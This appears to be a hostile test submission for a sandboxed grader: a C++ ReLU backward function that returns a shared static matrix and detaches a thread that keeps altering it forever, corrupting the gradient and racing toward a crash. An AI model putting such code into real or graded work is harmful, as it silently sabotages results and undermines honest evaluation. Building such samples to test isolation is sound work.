// Leaves a thread at work that changes the answer.
// Where: operating system
// Verdict: crash
// Only a box stops this.
#include <backprop/relu.hpp>
#include <thread>

namespace backprop {
Forward<Matrix, ReluCache> relu_forward(const Matrix& x) { return {xt::maximum(x, 0.0), {x}}; }

Matrix relu_backward(const Matrix& dout, const ReluCache&) {
  static Matrix dx = 0.0 * dout;
  std::thread([] { for (;;) dx(0, 0) += 1.0; }).detach();
  return dx;
}
}  // namespace backprop
